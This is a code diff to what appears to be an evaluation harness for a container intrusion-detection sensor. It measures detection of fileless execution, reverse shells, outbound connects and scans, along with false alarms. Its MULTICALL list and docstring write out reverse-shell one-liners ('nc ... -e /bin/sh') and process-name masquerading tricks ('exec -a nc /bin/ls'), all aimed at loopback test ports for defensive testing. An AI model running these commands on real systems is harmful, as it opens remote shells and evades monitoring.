@@ -9,11 +9,13 @@ attacked ``reps`` times, a fresh container per repetition:
   run from a memfd, run from a file deleted before its exec (a small static helper on a read-only
   bind mount does the last two, by descriptor, as fileless malware does);
 - multi-call: ``busybox nc ... -e /bin/sh``, an applet through a new symlink, the shell running
-  the applet by name, ``exec -a nc /proc/self/exe``, ``exec -a nc /bin/ls`` (all reverse shells:
-  found means Reverse Shell in Container at CRITICAL);
+  the applet by name, ``exec -a nc /proc/self/exe``, ``exec -a nc`` of a busybox link from a
+  subshell and as docker exec's own process (all reverse shells: found means Reverse Shell in
+  Container at CRITICAL);
 - failed connects (alert mode after learning): refused, timed out (a listener whose accept queue
-  is full, in the container's network namespace), UDP, v6 loopback; and a sweep of 21 ports,
-  which must be one Outbound Scan finding, not 21;
+  is full, in the container's network namespace), UDP (busybox nc has no -u here: nslookup to a new
+  resolver, a connected UDP socket), v6 loopback; and a sweep of 21 ports, which must be one
+  Outbound Scan finding, not 21;
 - early rate findings (alert after learning a noisy loop): a burst of 300 execs, time from its
   start to the finding against the window length;
 - state-based enforcement (enforce / pause-container): an offence is paused, ``docker unpause``
@@ -23,7 +25,8 @@ Time to finding is from the kernel time of the offending event (the exec or conn
 and a burst, the exec of the shell that starts it) to the moment the daemon hands the finding on.
 Must-not-fire: a benign container (writes files, runs its own binaries, reconnects to its peers:
 its own httpd and a peer that refuses) runs beside every capability's daemon; its findings are
-false alarms. Two offline measures complete it: the rate model's false alarms with early
+false alarms (beside a learn-mode daemon, those of the capability's own rules: learnable rules
+report while an image learns, by design). Two offline measures complete it: the rate model's false alarms with early
 (running-window) scoring against window-close scoring, both on the same model learned from the
 journal of the noisy loop; and the drift check's cost per exec, an A/B of the sensor with the check
 on and off (``CGSENTRY_DRIFT_CHECK=0``) on the exec storm, plus the check alone timed in-process.
@@ -86,13 +89,15 @@ MULTICALL: list[tuple[str, str]] = [
     ("applet via a new symlink", "ln -sf /bin/busybox /tmp/nc && /tmp/nc 127.0.0.1 {port} -e /bin/sh"),
     ("applet by name in the shell", "nc 127.0.0.1 {port} -e /bin/sh"),
     ("exec -a nc /proc/self/exe", "exec -a nc /proc/self/exe 127.0.0.1 {port} -e /bin/sh"),
-    ("exec -a nc /bin/ls", "exec -a nc /bin/ls 127.0.0.1 {port} -e /bin/sh"),
+    ("exec -a nc /bin/ls, in a subshell", "(exec -a nc /bin/ls 127.0.0.1 {port} -e /bin/sh)"),
+    # the process replaces docker exec's shell: its parent is the runtime's shim, outside the container
+    ("exec -a nc /bin/cat, as docker exec's process", "exec -a nc /bin/cat 127.0.0.1 {port} -e /bin/sh"),
 ]
 MULTICALL_QUIET = "busybox sh -c 'echo quiet'; busybox echo calm; (exec -a true /bin/ls); true"
 CONNECTS: list[tuple[str, str]] = [  # {port}: a port new to the baseline; "timed out" gets the full queue's
     ("refused (TCP v4)", "nc 127.0.0.1 {port} </dev/null"),
     ("timed out (TCP v4, 2 s)", "nc -w 2 127.0.0.1 {port} </dev/null"),
-    ("UDP", "nc -u 127.0.0.1 {port} </dev/null"),
+    ("UDP (nslookup to a new resolver)", "timeout 2 nslookup x.example 127.0.0.1:{port}"),
     ("refused (TCP v6 loopback)", "nc ::1 {port} </dev/null"),
 ]
 # A host process in the container's network namespace: a listener with a full accept queue (backlog
@@ -312,6 +317,7 @@ def per_attack(runs: list[dict[str, Any]]) -> dict[str, Any]:
 
 # -- capabilities -------------------------------------------------------------------------------
 def build_fileless(out_dir: Path) -> Path:
+    out_dir.mkdir(parents=True, exist_ok=True)
     (out_dir / "fileless.c").write_text(FILELESS_C)
     subprocess.run(["gcc", "-O2", "-static", str(out_dir / "fileless.c"), "-o", str(out_dir / "fileless")],
                    check=True, capture_output=True)
@@ -343,8 +349,9 @@ def drift(tmp: Path, reps: int, cs: Containers) -> dict[str, Any]:
                 r["flags"] = sorted({n for ev in seen for bit, n in names.items() if ev.flags & bit})
                 runs[label].append(r)
             log(f"drift rep {rep + 1}: " + ", ".join(f"{k}={v[-1]['found']}" for k, v in runs.items()))
-        fa = false_alarms(d, benign, t_benign)
+        fa = false_alarms(d, benign, t_benign, DRIFT_RULES)
     return {"daemon": "learn mode (no learning needed), full profile", "timeout_s": 5.0,
+            "false_alarms_counted": list(DRIFT_RULES),
             "attacks": {k: per_attack(v) | {"flags": sorted({f for r in v for f in r["flags"]})}
                         for k, v in runs.items()},
             "benign_false_alarms": len(fa), "benign_false_alarm_examples": fa[:5]}
@@ -376,8 +383,9 @@ def multicall(tmp: Path, reps: int, cs: Containers) -> dict[str, Any]:
             quiet += [f"{f.rule}: {f.output[:160]}" for t, f in list(d.found) if t >= since
                       and f.event.container_id == cid and f.rule in (REVERSE, "Network Tool Launched in Container")]
             log(f"multicall rep {rep + 1}: " + ", ".join(f"{k}={v[-1]['found']}" for k, v in runs.items()))
-        fa = false_alarms(d, benign, t_benign)
+        fa = false_alarms(d, benign, t_benign, (REVERSE, "Policy: banned process"))
     return {"daemon": "learn mode, full profile; found = Reverse Shell in Container at CRITICAL",
+            "false_alarms_counted": [REVERSE, "Policy: banned process"],
             "attacks": {k: per_attack(v) for k, v in runs.items()},
             "quiet_applets_false_alarms": len(quiet), "quiet_applets": MULTICALL_QUIET,
             "benign_false_alarms": len(fa), "benign_false_alarm_examples": fa[:5]}
